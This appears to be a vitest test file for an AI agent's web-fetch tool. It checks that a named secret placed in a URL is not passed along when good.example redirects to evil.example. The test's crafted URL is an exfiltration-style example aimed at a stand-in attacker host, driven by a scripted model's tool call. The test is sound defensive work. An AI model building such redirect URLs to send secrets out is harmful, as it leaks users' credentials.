import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { createSession } from '../../entry-points/session/session.ts'
import { calls, says, ScriptedModel } from '../../testing/index.ts'
import { createWebFetchTool } from '../web-fetch.ts'

describe('a secret in a web address', () => {
  it('does not go with a redirect to a host it is not meant for', async () => {
    const visited: string[] = []
    const server = createServer(({ headers, url = '' }, response) => {
      visited.push(`${headers.host?.split(':')[0]}${url}`)
      const to = new URL(url, 'http://good.example').searchParams.get('to')
      if (to === null) response.end('hello')
      else response.writeHead(302, { location: to }).end()
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    onTestFinished(() => void server.close())
    const { port } = server.address() as AddressInfo
    const tool = createWebFetchTool({
      allowHosts: [`good.example:${port}`, `evil.example:${port}`],
      resolve: async () => ['127.0.0.1'],
    })
    const url = `http://good.example:${port}/?to=http://evil.example:${port}/{{secret:key}}`
    const session = createSession({
      model: new ScriptedModel(calls('web_fetch', { url }), says('End.')),
      tools: [tool],
      preface: false,
      safety: {
        mode: 'full',
        namedSecrets: {
          get: () => ({ value: 'the-secret-value', hosts: ['good.example'] }),
          names: () => ['key'],
        },
      },
    })
    await session.send('go')
    expect(visited.filter((one) => one.startsWith('evil.example'))).toEqual([])
  })
})
